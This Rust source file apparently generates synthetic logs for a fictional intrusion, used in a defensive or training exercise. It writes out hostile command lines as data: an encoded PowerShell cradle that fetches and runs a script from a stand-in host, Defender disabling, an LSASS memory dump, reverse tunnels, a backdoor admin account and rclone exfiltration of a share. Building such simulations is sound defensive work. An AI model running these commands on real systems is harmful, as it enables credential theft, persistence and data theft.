//! Intrusion B: another actor, noisier, from February to June 2024.
//!
//! In by a letter with a link; PowerShell, a run key, a tunnel; a web shell on another server; a spray of
//! passwords at the mail; out with rclone. It works in office hours and has nothing to do with intrusion A: the actor
//! is invented, and so is all of its infrastructure.

mod appointments;

use blanik_model::Timestamp;

use super::chronicle::{Chronicle, Deed, Intruder};
use super::clock::{after, minutes};
use super::mail::{Access, OWA, Reading};
use super::network::{FS01, FW01, GATEWAY, Host, PCS, Person, STAFF};
use super::security::Origin;
use super::signins::SignIn;
use super::suricata::{Signature, Talk};
use super::sysmon::Launch;
use super::transport::Message;
use super::windows::{Process, Session};
use super::zeek::{Request, Traffic};

/// Where the letter's link leads.
const LURE: (&str, &str) = ("cdn-documents.example", "203.0.113.201");
/// The server that sends the letter.
const MAILER: (&str, &str) = ("mx.recepce-pozvanky.example", "203.0.113.205");
/// The tunnel's other end.
const TUNNEL: &str = "203.0.113.202";
/// From where passwords are tried.
const SPRAY: &str = "198.51.100.150";
/// Where the documents go.
const STORE: (&str, &str) = ("eu-store.object-cloud.example", "203.0.113.210");
/// `IEX (New-Object Net.WebClient).DownloadString('http://cdn-documents.example/a.ps1')`.
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALQBkAG8AYwB1AG0AZQBuAHQAcwAuAGUAeABhAG0AcABsAGUALwBhAC4AcABzADEAJwApAA==";

const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const TOOL: &str = "C:\\Users\\Public\\Libraries\\msedgeproxy.exe";

/// Does all of it.
pub fn tell(c: &mut Chronicle) {
    let victim = Victim::new(c);
    let shell = victim.open_letter(c);
    victim.stay(c, &shell);
    victim.look_around(c, &shell);
    victim.blind_defender(c, &shell);
    victim.dump_memory(c, &shell);
    victim.dig_tunnel(c, &shell);
    appointments::tell(c);
    spray(c);
    vpn(c);
    second_machine(c);
    victim.carry_out(c, &shell);
}

/// Addresses outside that it used.
pub fn addresses() -> Vec<String> {
    [LURE.1, TUNNEL, SPRAY, STORE.1, MAILER.1, appointments::FROM].map(str::to_owned).into()
}

fn deed(technique: &'static str, host: &Host, account: &str, what: &str) -> Deed {
    Deed::on(Intruder::B, technique, host, account, what)
}

/// The moment, up to ten minutes later by the seed.
fn at(c: &mut Chronicle, time: &str) -> Timestamp {
    let time = time.parse().expect("the story's times are times");
    after(time, c.random.millis(0, minutes(10)))
}

/// The clerk of the protocol department who opens the letter.
struct Victim {
    who: &'static Person,
    host: &'static Host,
    session: Session,
    desktop: Process,
}

impl Victim {
    fn new(c: &mut Chronicle) -> Self {
        let who = &STAFF[2];
        let session = c.session(who, who.host);
        let desktop = c.running(&session, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
        Victim { who, host: who.host, session, desktop }
    }

    fn does(&self, technique: &'static str, what: &str) -> Deed {
        deed(technique, self.host, self.who.account, what)
    }

    fn open_letter(&self, c: &mut Chronicle) -> Process {
        let time = at(c, "2024-02-13T08:31:00Z");
        let file = format!("C:\\Users\\{}\\Downloads\\Pozvanka_recepce_2024.hta", self.who.account);
        let edge = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
        let browser = c.running(&self.session, edge, &format!("\"{edge}\" --single-argument"));
        let what = "An invitation with a program in it is downloaded from a link in a letter.";
        c.step(self.does("T1566.002", what), |c| {
            let id = format!("<{}@{}>", c.random.hex(20), MAILER.0);
            let message = Message {
                from: "organizace@recepce-pozvanky.example",
                to: &self.who.mail(),
                subject: "Pozvánka na recepci",
                id: &id,
                bytes: 31_220,
            };
            c.message_came(after(time, -minutes(7)), message, MAILER);
            let asked = after(time, -400);
            c.asked(asked, self.host.address, LURE.0, "A", LURE.1);
            c.file_created(time, &browser, &file);
            self.download(
                c,
                after(time, -300),
                "/d/Pozvanka_recepce_2024.hta",
                "text/html",
                "Edge",
            );
        });
        let time = after(time, 21_000);
        let what = "The invitation is opened: mshta runs it.";
        let line = format!("\"C:\\Windows\\SysWOW64\\mshta.exe\" \"{file}\"");
        let mshta = c.step(self.does("T1218.005", what), |c| {
            let launch = Launch::of("C:\\Windows\\SysWOW64\\mshta.exe", &line);
            c.start(time, &self.session, &self.desktop, launch)
        });
        let what = "mshta starts PowerShell with an encoded command, without a window.";
        let shell = c.step(self.does("T1059.001", what), |c| {
            let line = format!("powershell.exe -nop -w hidden -ep bypass -enc {ENCODED}");
            let time = after(time, 1_900);
            c.start(time, &self.session, &mshta, Launch::of(POWERSHELL, &line))
        });
        let what = "PowerShell loads the next stage from the net and runs it in memory.";
        c.step(self.does("T1105", what), |c| {
            let time = after(time, 2_600);
            let text = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-documents.example\
                        /a.ps1')";
            c.script_ran(time, self.host, text, "");
            c.connected(after(time, 200), &shell, LURE, 80);
            self.download(c, after(time, 210), "/a.ps1", "text/plain", "");
        });
        shell
    }

    fn download(&self, c: &mut Chronicle, time: Timestamp, uri: &str, mime: &str, agent: &str) {
        let traffic = Traffic { service: "http", millis: 310, sent: 420, received: 48_210 };
        let flow = c.flow(time, self.host.address, LURE.1, 80, traffic);
        let agent = if agent.is_empty() { "" } else { super::ordinary::AGENT };
        let request = Request {
            method: "GET",
            host: LURE.0,
            uri,
            agent,
            lengths: (0, 47_890),
            status: 200,
            mime,
        };
        c.requested(&flow, request);
    }

    fn stay(&self, c: &mut Chronicle, shell: &Process) {
        let time = at(c, "2024-02-13T08:49:00Z");
        let what = "A run key starts PowerShell at every logon.";
        c.step(self.does("T1547.001", what), |c| {
            let key = format!(
                "HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync",
                self.who.sid()
            );
            let value = "powershell.exe -w hidden -nop -c \"IEX (gc $env:APPDATA\\sync.txt -Raw)\"";
            c.registry_set(time, shell, &key, value);
        });
    }

    fn look_around(&self, c: &mut Chronicle, shell: &Process) {
        let start = at(c, "2024-02-14T09:02:00Z");
        let commands = [
            ("T1033", "whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all", "the account"),
            (
                "T1016",
                "ipconfig.exe",
                "\"C:\\Windows\\system32\\ipconfig.exe\" /all",
                "the network",
            ),
            ("T1082", "systeminfo.exe", "\"C:\\Windows\\system32\\systeminfo.exe\"", "the machine"),
            ("T1018", "net.exe", "\"C:\\Windows\\system32\\net.exe\" view /domain", "machines"),
            (
                "T1087.002",
                "net.exe",
                "\"C:\\Windows\\system32\\net.exe\" group \"Domain Admins\" /domain",
                "administrators",
            ),
            (
                "T1482",
                "nltest.exe",
                "\"C:\\Windows\\system32\\nltest.exe\" /domain_trusts /all_trusts",
                "trusts",
            ),
        ];
        for (index, (technique, program, line, about)) in (0_i64..).zip(commands) {
            let time = after(start, index * 23_000);
            c.step(self.does(technique, &format!("The intruder asks about {about}.")), |c| {
                let image = format!("C:\\Windows\\System32\\{program}");
                c.start(time, &self.session, shell, Launch::of(&image, line));
            });
        }
    }

    fn blind_defender(&self, c: &mut Chronicle, shell: &Process) {
        let time = at(c, "2024-02-20T10:11:00Z");
        let what = "The antivirus is told to leave a folder alone and not to look at downloads.";
        c.step(self.does("T1562.001", what), |c| {
            let line = "powershell.exe -nop -c \"Set-MpPreference -DisableRealtimeMonitoring $true; \
                        Add-MpPreference -ExclusionPath C:\\Users\\Public\\Libraries\"";
            let raised = self.session.clone().raised();
            c.start(time, &raised, shell, Launch::of(POWERSHELL, line));
        });
    }

    fn dump_memory(&self, c: &mut Chronicle, shell: &Process) {
        let time = at(c, "2024-02-20T10:34:00Z");
        let what = "The memory of LSASS is dumped with ProcDump.";
        c.step(self.does("T1003.001", what), |c| {
            let image = "C:\\Users\\Public\\Libraries\\pd64.exe";
            let line = "C:\\Users\\Public\\Libraries\\pd64.exe -accepteula -ma lsass.exe \
                        C:\\Users\\Public\\Libraries\\l.dmp";
            let raised = self.session.clone().raised();
            let launch = Launch { really: "procdump64.exe", ..Launch::of(image, line) };
            let dumper = c.start(time, &raised, shell, launch);
            let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\\
                         KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6cee";
            c.lsass_opened(after(time, 150), &dumper, "0x1fffff", trace);
            c.file_created(after(time, 420), &dumper, "C:\\Users\\Public\\Libraries\\l.dmp");
        });
    }

    fn dig_tunnel(&self, c: &mut Chronicle, shell: &Process) {
        let time = at(c, "2024-03-05T12:20:00Z");
        let what = "A tunnelling tool opens a reverse proxy into the network.";
        c.step(self.does("T1572", what), |c| {
            let line = format!("{TOOL} client --fingerprint q1Xz {TUNNEL}:443 R:1080:socks");
            let tool = c.start(time, &self.session, shell, Launch::of(TOOL, &line));
            c.connected(after(time, 700), &tool, ("-", TUNNEL), 443);
            let signature = Signature {
                id: 9_100_020,
                message: "MZV LOCAL TUNNEL SSH over WebSocket client",
                category: "A Network Trojan was detected",
                severity: 1,
            };
            let talk = Talk { from: GATEWAY, to: TUNNEL, port: 443 };
            c.alerted(after(time, 900), talk, signature, None);
        });
        let time = at(c, "2024-03-19T12:44:00Z");
        let what = "A second tunnel is opened with the SSH client of Windows.";
        c.step(self.does("T1572", what), |c| {
            let image = "C:\\Windows\\System32\\OpenSSH\\ssh.exe";
            let line = format!(
                "ssh.exe -o StrictHostKeyChecking=no -N -R 9050 -p 443 relay@{TUNNEL} -i \
                 C:\\Users\\Public\\Libraries\\k"
            );
            c.start(time, &self.session, shell, Launch::of(image, &line));
            let traffic =
                Traffic { service: "ssh", millis: 9_000_000, sent: 8_120_400, received: 2_200_100 };
            c.flow(after(time, 800), self.host.address, TUNNEL, 443, traffic);
        });
    }

    fn carry_out(&self, c: &mut Chronicle, shell: &Process) {
        let time = at(c, "2024-06-11T13:25:00Z");
        let what = "The protocol department's share is copied to a store in the cloud with rclone.";
        c.step(self.does("T1567.002", what), |c| {
            let image = "C:\\Users\\Public\\Libraries\\svchost.exe";
            let line = "C:\\Users\\Public\\Libraries\\svchost.exe copy \\\\fs01\\Protokol \
                        eu:mzv-2024 --config C:\\Users\\Public\\Libraries\\r.conf --transfers 8 \
                        --max-age 2y --include *.{docx,pdf,xlsx}";
            let launch = Launch { really: "rclone.exe", ..Launch::of(image, line) };
            let copier = c.start(time, &self.session, shell, launch);
            c.connected(after(time, 1_200), &copier, STORE, 443);
            let share = (FS01.fqdn(), "D:\\Shares\\Protokol");
            c.took_files(Intruder::B, time, (&share.0, share.1), (2_140, 1_301_774_020));
        });
        let what = "1.3 GB go to the store.";
        c.step(self.does("T1567.002", what), |c| {
            let (sent, received) = (1_304_221_908, 9_441_002);
            let traffic = Traffic { service: "ssl", millis: 2_700_000, sent, received };
            let flow = c.flow(after(time, 1_300), self.host.address, STORE.1, 443, traffic);
            c.shook_hands(&flow, STORE.0, "ok");
            c.sent_out(Intruder::B, &flow);
        });
    }
}

fn spray(c: &mut Chronicle) {
    let start = at(c, "2024-04-16T11:02:00Z");
    let what = "One address tries one password after another on every mailbox.";
    let spray = Deed::in_cloud(Intruder::B, "T1110.003", "", what);
    c.step(spray, |c| {
        for (index, who) in (0_i64..).zip(STAFF.iter().chain(STAFF.iter())) {
            c.signed_in(after(start, index * 31_000), who, SPRAY, "50126");
        }
    });
    let found = &STAFF[5];
    let time = after(start, minutes(17));
    let what = "One of the passwords fits.";
    c.step(Deed::in_cloud(Intruder::B, "T1078.004", &found.mail(), what), |c| {
        let how = SignIn {
            address: SPRAY,
            error: "0",
            client: "Authenticated SMTP",
            agent: "BAV2ROPC",
            second_factor: false,
        };
        c.signed_in_by(time, found, how);
    });
    let what = "The mailbox is read from the same address.";
    c.step(Deed::in_cloud(Intruder::B, "T1114.002", &found.mail(), what), |c| {
        let reading = Reading {
            application: OWA,
            client: "Client=OWA;Action=ViaProxy",
            folder: "\\Inbox",
            access: Access::Bind(40_000, 38),
        };
        let time = after(time, minutes(2));
        c.mail_read(time, found, SPRAY, reading);
        c.took_mail(Intruder::B, time, found, (40_000, 38), true);
    });
}

/// The guessed password is the VPN's, too.
fn vpn(c: &mut Chronicle) {
    let found = &STAFF[5];
    let time = at(c, "2024-04-22T09:15:00Z");
    let what = "The guessed account comes in by the VPN, from the address of the spray.";
    c.step(Deed::at(Intruder::B, "T1133", FW01.name, found.account, what), |c| {
        c.came_by_vpn(time, found.account, SPRAY, "10.20.60.201");
    });
}

/// The account that was guessed is used on another machine, through the tunnel.
fn second_machine(c: &mut Chronicle) {
    let (who, host) = (&STAFF[5], &PCS[7]);
    let time = at(c, "2024-04-23T10:40:00Z");
    let session = c.session(who, host).raised();
    let what = "The guessed account logs on to its machine from the first victim's.";
    c.step(deed("T1021.001", host, who.account, what).from(&PCS[4]), |c| {
        let origin = Origin { workstation: "PC-PRO04", ..Origin::kerberos(&PCS[4]) };
        c.logged_on(time, &session, 10, Origin { package: "Negotiate", ..origin });
    });
    let what = "A local account is created and made administrator.";
    c.step(deed("T1136.001", host, who.account, what), |c| {
        let cmd = c.running(&session, "C:\\Windows\\System32\\cmd.exe", "cmd.exe");
        let time = after(time, minutes(3));
        let image = "C:\\Windows\\System32\\net.exe";
        let line = "net  user helpdesk_2 P0dpora2024 /add";
        c.start(time, &session, &cmd, Launch::of(image, line));
        c.account_created(after(time, 700), &session, "helpdesk_2");
        let line = "net  localgroup Administrators helpdesk_2 /add";
        c.start(after(time, 4_000), &session, &cmd, Launch::of(image, line));
    });
    let what = "The departments' share is looked through.";
    c.step(deed("T1039", &FS01, who.account, what).from(host), |c| {
        let there = c.session(who, &FS01);
        let time = after(time, minutes(9));
        for (index, file) in
            (0_i64..).zip(["Seznam hostů 12.docx", "Akreditace 3.docx", "hesla.xlsx"])
        {
            let time = after(time, index * 14_000);
            c.share_opened(time, &there, host.address, "Oddeleni", Some(file));
        }
    });
}
